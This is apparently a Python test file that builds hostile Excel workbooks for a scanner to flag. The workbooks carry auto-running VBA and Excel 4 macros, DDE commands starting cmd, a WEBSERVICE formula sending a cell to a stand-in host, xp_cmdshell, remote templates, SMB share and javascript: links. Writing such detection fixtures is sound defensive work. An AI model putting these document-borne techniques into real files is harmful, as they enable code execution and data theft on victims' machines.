"""Good returns that also hold what would run, connect or follow: never run or followed, each reported."""

from tests.build.hostile.case import of_return
from tests.build.hostile.reworked import (
    BOOK_PART,
    MAIN,
    OFFICE,
    before,
    below_the_rows,
    edited,
    formula,
    linked,
    row,
    saying,
    with_parts,
    with_rows,
)
from tests.build.ole import ole
from tests.golden.sound import FORM_PART, Sound

_EVIL = "http://example.invalid/"
_R = f'xmlns:r="{OFFICE}"'
_MACROS = {"xl/vbaProject.bin": ole({"VBA": b'Sub Auto_Open()\nShell "calc"\nEnd Sub'})}


def _external(sound: Sound, link: str, *links: tuple[str, str, bool]) -> bytes:
    """The return with an externalLink part of this XML, and its own relationships."""
    part = "xl/externalLinks/externalLink1.xml"
    book = with_parts(sound.book(), {part: f'<externalLink xmlns="{MAIN}" {_R}>{link}</externalLink>'})
    book = linked(book, BOOK_PART, "externalLink", "externalLinks/externalLink1.xml")
    book = edited(
        book,
        BOOK_PART,
        lambda xml: xml.replace(
            b"<definedNames>",
            f'<externalReferences><externalReference {_R} r:id="rId99"/></externalReferences><definedNames>'.encode(),
        ),
    )
    for kind, target, outside in links:
        book = linked(book, part, kind, target, outside, key="rId1")
    return book


@of_return("宏.xlsm", "collected", notices=("F141",))
def macros(sound: Sound) -> bytes:
    """A return with a VBA project."""
    return linked(
        with_parts(sound.book(), _MACROS),
        BOOK_PART,
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
    )


@of_return("宏.xlsx", "collected", notices=("F141",))
def macros_elsewhere(sound: Sound) -> bytes:
    """A VBA project under another name than usual, in a file named .xlsx."""
    book = with_parts(sound.book(), {"xl/other.bin": next(iter(_MACROS.values()))})
    return linked(
        book, BOOK_PART, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "other.bin"
    )


@of_return("宏表.xlsm", "collected", notices=("F141",))
def macro_sheet(sound: Sound) -> bytes:
    """A very hidden sheet of Excel 4 macros that opens by itself."""
    kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
    cells = row(1, formula("A1", 'EXEC("calc.exe")')) + row(2, formula("A2", "HALT()"))
    sheet = (
        '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"'
        f' xmlns="{MAIN}"><sheetData>{cells}</sheetData></xm:macrosheet>'
    )
    book = linked(
        with_parts(sound.book(), {"xl/macrosheets/sheet1.xml": sheet}),
        BOOK_PART,
        kind,
        "macrosheets/sheet1.xml",
    )
    listed = f'<sheet {_R} name="m" sheetId="77" state="veryHidden" r:id="rId99"/>'
    book = edited(book, BOOK_PART, lambda xml: xml.replace(b"</sheets>", listed.encode() + b"</sheets>"))
    name = b'<definedName name="_xlnm.Auto_Open" hidden="1">m!$A$1</definedName></definedNames>'
    return edited(book, BOOK_PART, lambda xml: xml.replace(b"</definedNames>", name))


@of_return("外部链接.xlsx", "collected", notices=("F142",))
def external_link(sound: Sound) -> bytes:
    """A formula over another workbook on the clerk's disk."""
    link = f'<externalBook {_R} r:id="rId1"><sheetNames><sheetName val="s"/></sheetNames></externalBook>'
    book = _external(sound, link, ("externalLinkPath", "file:///D:\\示例.xlsx", True))
    return with_rows(book, row(400, formula("A400", "[1]s!A1")))


@of_return("外部链接二.xlsx", "collected", notices=("F146",))
def external_link_unused(sound: Sound) -> bytes:
    """A workbook on a server that no formula uses any more."""
    link = f'<externalBook {_R} r:id="rId1"><sheetNames><sheetName val="s"/></sheetNames></externalBook>'
    return _external(sound, link, ("externalLinkPath", f"{_EVIL}x.xlsx", True))


@of_return("DDE.xlsx", "collected", notices=("F148",))
def dde_link(sound: Sound) -> bytes:
    """A DDE link that starts a program."""
    item = '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems>'
    return _external(sound, f'<ddeLink ddeService="cmd" ddeTopic="/C calc">{item}</ddeLink>')


@of_return("DDE公式.xlsx", "collected", notices=("F148",))
def dde_formula(sound: Sound) -> bytes:
    """A formula that starts a program by DDE."""
    return with_rows(sound.book(), row(400, formula("A400", "cmd|'/C calc'!A0")))


@of_return("OLE链接.xlsx", "collected", notices=("F150",))
def ole_link(sound: Sound) -> bytes:
    """A link to an OLE object in a file on a server."""
    items = '<oleItems><oleItem name="x" advise="1"/></oleItems>'
    link = f'<oleLink {_R} r:id="rId1" progId="Word.Document">{items}</oleLink>'
    return _external(sound, link, ("oleObject", f"{_EVIL}x.doc", True))


@of_return("网页查询.xlsx", "collected", notices=("F149",))
def web_query(sound: Sound) -> bytes:
    """A web query that is run whenever the workbook is opened."""
    connection = f'<connection id="1" name="x" type="4" refreshOnLoad="1"><webPr url="{_EVIL}"/></connection>'
    parts = {
        "xl/connections.xml": f'<connections xmlns="{MAIN}">{connection}</connections>',
        "xl/queryTables/queryTable1.xml": f'<queryTable xmlns="{MAIN}" name="x" connectionId="1"/>',
    }
    book = linked(with_parts(sound.book(), parts), BOOK_PART, "connections", "connections.xml")
    return linked(book, FORM_PART, "queryTable", "../queryTables/queryTable1.xml")


@of_return("数据库.xlsx", "collected", notices=("F149",))
def database(sound: Sound) -> bytes:
    """A connection to a database, with its password."""
    db = '<dbPr connection="Provider=SQLOLEDB;Data Source=example.invalid;Password=x" command="xp_cmdshell"/>'
    xml = f'<connections xmlns="{MAIN}"><connection id="1" name="x" type="1">{db}</connection></connections>'
    return linked(
        with_parts(sound.book(), {"xl/connections.xml": xml}), BOOK_PART, "connections", "connections.xml"
    )


@of_return("查询.xlsx", "collected", notices=("F149",))
def power_query(sound: Sound) -> bytes:
    """A query of Power Query, in the part where Excel keeps it."""
    xml = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
    return linked(
        with_parts(sound.book(), {"customXml/item1.xml": xml}),
        BOOK_PART,
        "customXml",
        "../customXml/item1.xml",
    )


@of_return("WEBSERVICE.xlsx", "collected", notices=("F149",))
def web_service(sound: Sound) -> bytes:
    """A formula that sends a cell to a server."""
    return with_rows(sound.book(), row(400, formula("A400", f'_xlfn.WEBSERVICE("{_EVIL}?"&B9)')))


@of_return("RTD.xlsx", "collected", notices=("F149",))
def real_time_data(sound: Sound) -> bytes:
    """A formula that asks a program for its data."""
    return with_rows(sound.book(), row(400, formula("A400", 'RTD("evil.server",,"x")')))


@of_return("对象.xlsx", "collected", notices=("F150",))
def ole_object(sound: Sound) -> bytes:
    """A program packed into the sheet as an object."""
    book = with_parts(
        sound.book(), {"xl/embeddings/oleObject1.bin": ole({"\1Ole10Native": b"MZ" + bytes(100)})}
    )
    book = linked(book, FORM_PART, "oleObject", "../embeddings/oleObject1.bin")
    return below_the_rows(
        book, f'<oleObjects {_R}><oleObject progId="Package" shapeId="1" r:id="rId99"/></oleObjects>'
    )


@of_return("控件.xlsx", "collected", notices=("F150",))
def activex(sound: Sound) -> bytes:
    """An ActiveX control."""
    space = 'xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"'
    xml = f'<ax:ocx {space} ax:classid="{{8BD21D10-EC42-11CE-9E0D-00AA006002F3}}"/>'
    book = linked(
        with_parts(sound.book(), {"xl/activeX/activeX1.xml": xml}),
        FORM_PART,
        "control",
        "../activeX/activeX1.xml",
    )
    return below_the_rows(book, f'<controls {_R}><control shapeId="1" r:id="rId99" name="c"/></controls>')


@of_return("功能区.xlsx", "collected", notices=("F150",))
def custom_ribbon(sound: Sound) -> bytes:
    """A ribbon that calls a macro when it is loaded."""
    xml = '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="evil"/>'
    book = with_parts(sound.book(), {"customUI/customUI.xml": xml})
    kind = "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility"
    return linked(book, "", kind, "customUI/customUI.xml")


def _hyperlink(sound: Sound, target: str) -> bytes:
    book = linked(sound.book(), FORM_PART, "hyperlink", target, external=True)
    return below_the_rows(book, f'<hyperlinks {_R}><hyperlink ref="A9" r:id="rId99"/></hyperlinks>')


@of_return("超链接.xlsx", "collected", notices=("F156",))
def hyperlink(sound: Sound) -> bytes:
    """A cell that leads to a server."""
    return _hyperlink(sound, f"{_EVIL}login")


@of_return("共享链接.xlsx", "collected", notices=("F156",))
def share_link(sound: Sound) -> bytes:
    """A cell that leads to a share, where Windows signs in by itself."""
    return _hyperlink(sound, "file://///example.invalid/share/x")


@of_return("脚本链接.xlsx", "collected", notices=("F156",))
def script_link(sound: Sound) -> bytes:
    """A cell that leads to a script."""
    return _hyperlink(sound, "javascript:alert(1)")


@of_return("HYPERLINK.xlsx", "collected", notices=("F156",))
def hyperlink_formula(sound: Sound) -> bytes:
    """A formula that leads to a server."""
    return with_rows(sound.book(), row(400, formula("A400", f'HYPERLINK("{_EVIL}","点这里")')))


@of_return("远程图片.xlsx", "collected", notices=("F156",))
def remote_picture(sound: Sound) -> bytes:
    """A picture that lies on a server and is fetched when the sheet is shown."""
    drawing = "xl/drawings/drawing9.xml"
    space = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    sheet = 'xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"'
    xml = f'<xdr:wsDr {sheet} {space} {_R}><a:blip r:link="rId99"/></xdr:wsDr>'
    book = linked(with_parts(sound.book(), {drawing: xml}), drawing, "image", f"{_EVIL}x.png", external=True)
    book = linked(book, FORM_PART, "drawing", "../drawings/drawing9.xml", key="rId97")
    return below_the_rows(book, f'<drawing {_R} r:id="rId97"/>')


@of_return("IMAGE.xlsx", "collected", notices=("F156",))
def image_formula(sound: Sound) -> bytes:
    """A formula that fetches a picture."""
    return with_rows(sound.book(), row(400, formula("A400", f'_xlfn.IMAGE("{_EVIL}x.png")')))


@of_return("背景.xlsx", "collected", notices=("F156",))
def remote_background(sound: Sound) -> bytes:
    """A sheet whose background lies on a server."""
    book = linked(sound.book(), FORM_PART, "image", f"{_EVIL}x.png", external=True)
    return below_the_rows(book, f'<picture {_R} r:id="rId99"/>')


@of_return("远程模板.xlsx", "collected", notices=("F156",))
def remote_template(sound: Sound) -> bytes:
    """A template that is fetched from a server when the workbook is opened."""
    return linked(sound.book(), BOOK_PART, "attachedTemplate", f"{_EVIL}x.xltm", external=True)


@of_return("单元格公式.xlsx", "collected", notices=("F156",))
def formula_in_the_form(sound: Sound) -> bytes:
    """A link to a server as the formula of a cell that is read."""
    marked = saying(sound, "")
    return before(marked, FORM_PART, "</sheetData>", row(400, formula("A400", f'HYPERLINK("{_EVIL}")', "1")))
